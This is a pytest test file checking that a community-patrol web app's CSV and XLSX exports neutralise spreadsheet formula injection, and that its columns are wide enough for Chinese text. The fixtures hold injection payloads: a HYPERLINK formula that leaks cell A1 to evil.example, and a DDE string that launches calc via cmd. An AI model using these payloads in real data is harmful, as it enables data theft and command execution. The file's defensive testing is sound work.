"""Every export is formula-safe: free text that starts a formula comes out as text (CSV and XLSX)."""
import csv
import io
import uuid
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import csrf_token_from

DAY = date(2026, 11, 20)
EVIL = {
    "note": '=HYPERLINK("http://evil.example/?leak="&A1,"scan")',
    "reason": "=1+2",
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "grid": "+第一网格",
    "patroller": "-2+3",
    "checkpoint": "\t=1+1",
    "wide": "＝1+1",
}
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _plant(app, world):
    """Free text starting with formula characters in every column a secretary can export."""
    from webapp.extensions import db
    from webapp.models import Checkpoint, Grid, Patrol, PatrolScan, Route, User

    with app.app_context():
        route = db.session.scalars(select(Route).where(Route.community_id == world.first_community)).first()
        volunteer = db.session.scalar(select(User).where(User.username == "volunteer"))
        volunteer.display_name = EVIL["patroller"]
        db.session.get(Grid, world.volunteer_grid).name = EVIL["grid"]
        checkpoint = db.session.get(Checkpoint, route.stops[0].checkpoint_id)
        checkpoint.name = EVIL["checkpoint"]
        patrol = Patrol(request_id=uuid.uuid4().hex, route_id=route.id, user_id=volunteer.id, day=DAY, round_no=1,
                        started_at=datetime(2026, 11, 20, 1, 0), ended_at=datetime(2026, 11, 20, 2, 0),
                        end_reason=EVIL["reason"])
        db.session.add(patrol)
        db.session.flush()
        db.session.add(PatrolScan(request_id=uuid.uuid4().hex, patrol_id=patrol.id, checkpoint_id=checkpoint.id,
                                  scanned_at=datetime(2026, 11, 20, 1, 10), result="finding", finding_kind="other",
                                  note=EVIL["note"], resolution="solved"))
        db.session.add(PatrolScan(request_id=uuid.uuid4().hex, patrol_id=patrol.id, checkpoint_id=checkpoint.id,
                                  scanned_at=datetime(2026, 11, 20, 1, 20), result="normal", note=EVIL["wide"]))
        db.session.commit()


def _csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _assert_no_formula(cells):
    for cell in cells:
        assert not cell.startswith(STARTS), cell


def _sign(client, comment):
    token = csrf_token_from(client, "/summary")
    response = client.post("/summary", data={"csrf_token": token, "request_id": uuid.uuid4().hex,
                                             "day": DAY.isoformat(), "comment": comment})
    assert response.status_code == 303


def test_patrol_log_csv_writes_notes_and_reasons_as_text(app, client, login_as, world):
    _plant(app, world)
    login_as("secretary")
    rows = _csv_rows(client.get("/patrols/log.csv", query_string={"day": DAY.isoformat()}))
    cells = [cell for row in rows for cell in row]
    _assert_no_formula(cells)
    for text in ("note", "reason", "patroller", "checkpoint", "wide"):
        assert "'" + EVIL[text] in cells, text  # kept whole, behind an apostrophe


def test_summary_csv_writes_comments_and_names_as_text(app, client, login_as, world):
    _plant(app, world)
    login_as("secretary")
    _sign(client, EVIL["comment"])
    rows = _csv_rows(client.get("/summary.csv", query_string={"day": DAY.isoformat()}))
    cells = [cell for row in rows for cell in row]
    _assert_no_formula(cells)
    assert "'" + EVIL["comment"] in cells and "'" + EVIL["grid"] in cells


def test_summary_xlsx_holds_strings_never_formulas(app, client, login_as, world):
    _plant(app, world)
    login_as("secretary")
    _sign(client, EVIL["comment"])
    response = client.get("/summary.xlsx", query_string={"day": DAY.isoformat()})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value: cell.data_type for cell in cells}
    assert texts[EVIL["comment"]] == "s" and texts[EVIL["grid"]] == "s"  # the text itself, as a string cell
    assert any(isinstance(cell.value, int) for cell in cells)  # figures stay numbers


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"), ("plain", "plain"), ("a=1", "a=1"), (-5, -5), (3.5, 3.5), (None, None),
])
def test_safe_text(value, expected):
    from webapp.spreadsheets import safe_text

    assert safe_text(value) == expected


def test_xlsx_bytes_never_writes_a_formula():
    from webapp.spreadsheets import xlsx_bytes

    sheet = load_workbook(io.BytesIO(xlsx_bytes([["=1+2", '=HYPERLINK("http://x","y")', "@A1", 7, -3]]))).active
    row = next(sheet.iter_rows())
    assert [c.data_type for c in row] == ["s", "s", "s", "n", "n"]
    assert [c.value for c in row] == ["=1+2", '=HYPERLINK("http://x","y")', "@A1", 7, -3]


def test_xlsx_exports_are_wide_enough_to_read_their_chinese_headers(app, client, login_as, world):
    """Opened in Excel, a column is as wide as its longest header or value (a Chinese character takes two
    widths), so the secretary reads 新增本地常住 and a whole address without widening columns by hand."""
    login_as("secretary")
    response = client.get("/summary.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[2]]
    assert "新增本地常住" in header
    def wide(text):
        return sum(2 if ord(ch) >= 0x2E80 else 1 for ch in text)

    for index, title in enumerate(header, start=1):
        column = sheet.column_dimensions[sheet.cell(row=2, column=index).column_letter]
        assert column.customWidth and column.width >= wide(title), (title, column.width)  # else Excel's 8.43
    registry = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").data)).active
    addresses = [row[6] for row in registry.iter_rows(min_row=2, values_only=True)]
    assert registry.column_dimensions["G"].customWidth
    assert registry.column_dimensions["G"].width >= max(wide(a) for a in addresses) > 16


def test_a_long_sign_off_comment_does_not_stretch_the_summary_table(app, client, login_as, world):
    """The secretary's comment sits under the table in column B: it runs on across the empty cells beside it,
    and column B stays as wide as the figures."""
    login_as("secretary")
    _sign(client, "今日入户走访7户，无人在家3户已留条；巡查发现106号封条破损，已转防控组。" * 2)
    sheet = load_workbook(io.BytesIO(client.get("/summary.xlsx", query_string={"day": DAY.isoformat()}).data)).active
    assert 8 <= sheet.column_dimensions["B"].width <= 16


def test_the_summary_export_lists_the_days_patrol_findings(app, client, login_as, world):
    """The file the secretary sends up says what the patrols found, as the page does, not only how many."""
    _plant(app, world)
    login_as("secretary")
    for kind in ("csv", "xlsx"):
        response = client.get(f"/summary.{kind}", query_string={"day": DAY.isoformat()})
        if kind == "csv":
            rows = _csv_rows(response)
        else:
            rows = [[c for c in row if c is not None] for row in load_workbook(io.BytesIO(response.data)).active
                    .iter_rows(values_only=True)]
        start = next(i for i, row in enumerate(rows) if row[:3] == ["点位", "时间", "发现问题"])
        finding = rows[start + 1]
        assert EVIL["note"] in finding or ("'" + EVIL["note"]) in finding, finding
